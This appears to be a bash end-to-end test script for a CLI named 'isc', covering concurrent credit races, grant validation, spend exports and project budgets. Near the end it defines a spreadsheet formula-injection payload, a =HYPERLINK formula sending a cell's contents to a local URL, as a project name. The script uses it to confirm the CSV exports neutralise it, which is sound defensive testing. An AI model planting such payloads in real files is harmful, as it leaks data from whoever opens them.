#!/usr/bin/env bash
# Credits end to end: 8 processes race for an org's last credits (bin/credits-race)
# in several rounds and never hold more than the balance, while all of them
# charge one node for the same periods and it is charged once; then the CLI:
# grants with bad amounts, credits show --json, and isc spend as CSV (read back
# with csvkit when installed), JSON and table, with date filters.
. "$(dirname "$0")/lib.sh"

home=$(mktemp -d /tmp/isc-credits.XXXXXX)/home
trap 'rm -rf "$(dirname "$home")"' EXIT
isc() { "$ISC_BIN/isc" --home "$home" "$@"; }
race() { "$ISC_BIN/credits-race" --home "$home" "$@"; }
py() { /usr/bin/python3 -c "$@"; }

expect_exit 0 "init" isc init
iscd_api "$home" "$(dirname "$home")/iscd.log" || exit 1
expect_exit 0 "org add" isc org add race
expect_exit 0 "project add (a name with a quote)" isc project add --org race 'team"q'
expect_exit 0 "credits --help" isc credits --help
expect_exit 0 "spend --help" isc spend --help
expect_exit 0 "grant 20" isc credits grant --org race 20

# Bad grants: exit 1 with the problem named; usage mistakes exit 2.
expect_exit 1 "negative grant" isc credits grant --org race -5
expect_stderr "negative" isc credits grant --org race -5
expect_exit 1 "zero grant" isc credits grant --org race 0
expect_exit 1 "too many decimals" isc credits grant --org race 1.0000001
expect_stderr "more than 6 decimals" isc credits grant --org race 1.0000001
expect_exit 1 "malformed amount" isc credits grant --org race 12,50
expect_exit 1 "unknown org" isc credits grant --org nope 5
expect_stderr "no organisation named 'nope'" isc credits grant --org nope 5
expect_exit 2 "grant without --org" isc credits grant 5
expect_exit 2 "grant without amount" isc credits grant --org race
expect_exit 2 "unknown option" isc credits grant --org race 5 --bogus

# Four rounds of racing; each tops the org up so there is something to fight for.
for r in 1 2 3 4; do
	[ "$r" -gt 1 ] && isc credits grant --org race 7.5 >/dev/null
	out=$(race --org race --project 'team"q' --procs 8 --amount 0.75 2>&1)
	rc=$?
	check "race round $r (8 processes): $(tail -n 1 <<<"$out")" test "$rc" -eq 0
	grep FAIL <<<"$out" >&2
done

json=$(isc credits show --org race --json)
check "credits show --json: reserved <= balance, available = balance - reserved" py "
import json,sys
o=json.loads(sys.argv[1])['orgs'][0]
assert 0 <= o['reserved_micros'] <= o['balance_micros'], o
assert o['available_micros'] == o['balance_micros'] - o['reserved_micros']
assert o['balance'] == '%d.%06d' % divmod(o['balance_micros'], 1000000), o
" "$json"
check "credits show table" bash -c "'$ISC_BIN/isc' --home '$home' credits show | grep -Eq '^race +\\\$[0-9]+\\.[0-9]{2}'"

# Four rounds each charged one node ten one-minute periods at \$32.77/h, each
# rounded up on its own: 10 x ceil(546166.67) = 5461670 micros.
per=5461670
total=$((4 * per))
csv=$(isc spend --org race --format csv)
check "spend csv uses CRLF line ends" bash -c "printf '%s' \"\$1\" | head -1 | grep -q \$'\\r\$'" _ "$csv"
check "spend csv is RFC 4180: key with a quote, exact amounts, TOTAL last" py "
import csv,io,sys
rows=list(csv.reader(io.StringIO(sys.argv[1], newline='')))
assert rows[0]==['project','project_id','amount','amount_micros'], rows[0]
assert rows[1][0]=='team\"q' and rows[1][3]=='$total' and rows[1][2]=='%d.%06d' % divmod($total,1000000), rows[1]
assert rows[-1][0]=='TOTAL' and rows[-1][3]=='$total', rows[-1]
" "$csv"
if command -v csvjson >/dev/null && command -v csvstat >/dev/null; then
	check "csvkit reads the CSV (csvjson)" bash -c "printf '%s' \"\$1\" | csvjson | /usr/bin/python3 -c '
import json,sys
r=json.load(sys.stdin)
assert r[0][\"project\"]==\"team\\\"q\", r
assert int(r[0][\"amount_micros\"])==$total, r
'" _ "$csv"
	check "csvstat counts the rows" bash -c "printf '%s' \"\$1\" | csvstat --count | grep -q 2" _ "$csv"
	check "csvlook renders it" bash -c "printf '%s' \"\$1\" | csvlook | grep -q TOTAL" _ "$csv"
fi
check "spend json totals" py "
import json,sys
o=json.loads(sys.argv[1])
assert o['total_micros']==$total and o['total']=='%d.%06d' % divmod($total,1000000), o
assert sum(r['amount_micros'] for r in o['rows'])==o['total_micros']
assert all(isinstance(r['amount_micros'], int) for r in o['rows'])
" "$(isc spend --format json --by experiment)"
check "spend by day: 2024-06-01" bash -c "'$ISC_BIN/isc' --home '$home' spend --by day --format csv | grep -q '^2024-06-01,'"
check "spend --to 2024-06-01 includes the day" py "
import json,sys; assert json.loads(sys.argv[1])['total_micros']==$total" \
	"$(isc spend --from 2024-06-01 --to 2024-06-01 --format json)"
check "spend --from 2024-06-02 excludes it" py "
import json,sys; assert json.loads(sys.argv[1])['total_micros']==0" "$(isc spend --from 2024-06-02 --format json)"
check "spend by provider and shape" bash -c "'$ISC_BIN/isc' --home '$home' spend --by shape | grep -q 'p4d.24xlarge' && '$ISC_BIN/isc' --home '$home' spend --by provider | grep -q '^aws'"
expect_exit 1 "spend bad date" isc spend --from 2024-02-30
expect_stderr "does not exist" isc spend --from 2024-02-30
expect_exit 1 "spend malformed date" isc spend --to 06/01/2024
expect_exit 1 "spend --from after --to" isc spend --from 2024-06-02 --to 2024-06-01
expect_exit 2 "spend bad --by" isc spend --by week
expect_exit 2 "spend bad --format" isc spend --format xml
expect_exit 1 "spend unknown org" isc spend --org nope
expect_exit 1 "spend unknown project" isc spend --project nope

# isc project budget.
expect_exit 0 "project budget" isc project budget --org race --project 'team"q' 50
check "project list --json shows the budget" bash -c "'$ISC_BIN/isc' --home '$home' project list --org race --json | grep -q '\"budget_micros\": 50000000'"
expect_exit 0 "project budget none" isc project budget --org race --project 'team"q' none
check "budget removed" bash -c "'$ISC_BIN/isc' --home '$home' project list --org race --json | grep -q '\"budget_micros\": null'"
expect_exit 1 "project budget bad amount" isc project budget --org race --project 'team"q' -3
expect_stderr "negative" isc project budget --org race --project 'team"q' -3
expect_exit 1 "project budget unknown project" isc project budget --org race --project nope 5
expect_exit 1 "project budget unknown org" isc project budget --org nope --project 'team"q' 5
expect_exit 2 "project budget without amount" isc project budget --org race --project 'team"q'

# A name that is a spreadsheet formula (issue 42): the CSV exports carry it as text,
# "'=HYPERLINK(...)" in a quoted cell, never as a live formula that would send the
# next cell (B3) to a URL when the finance team opens the file; amounts stay numbers.
# (A project name has no slash or comma: the URL's // is spelt CHAR(47)&CHAR(47).)
f='=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"127.0.0.1:9?leak="&B3)'
expect_exit 0 "project add (a name that is a spreadsheet formula)" isc project add --org race "$f"
isc credits grant --org race 7.5 >/dev/null
out=$(race --org race --project "$f" --procs 2 --amount 0.75 2>&1)
rc=$?
check "a round charged to the formula's project: $(tail -n 1 <<<"$out")" test "$rc" -eq 0
formula_csv() { # NAME CSV: the formula's row is text, every amount a number
	check "$1: the formula goes as text" py "
import csv,io,sys
f,text=sys.argv[1],sys.argv[2]
rows=list(csv.reader(io.StringIO(text, newline='')))
keys=[r[0] for r in rows]
assert \"'\"+f in keys, keys
assert not any(k.startswith(('=','+','@')) for k in keys), keys
assert '\"\\'=HYPERLINK(' in text, text
for r in rows[1:]:
    float(r[-2]); int(r[-1])
" "$f" "$2"
}
formula_csv "the org's spend CSV (isc spend --org)" "$(isc spend --org race --format csv)"
formula_csv "the operator's all-org spend CSV (isc spend)" "$(isc spend --format csv)"
formula_csv "the org's spend CSV over the API (GET /v1/spend?org=race&format=csv)" \
	"$(curl -s --unix-socket "$home/run/api.sock" 'http://localhost/v1/spend?org=race&format=csv')"

finish credits-race
